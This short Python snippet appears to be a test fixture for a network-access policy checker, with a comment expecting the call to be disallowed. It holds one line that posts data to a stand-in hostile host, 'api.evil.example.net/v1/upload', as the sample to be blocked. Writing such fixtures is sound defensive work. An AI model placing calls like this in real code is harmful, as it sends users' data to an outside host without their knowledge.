# expect: http_client(host=api.evil.example.net allowed=false)
import httpx
API = "https://api.evil.example.net/v1/upload"
httpx.post(API, json={"rows": len(df)})
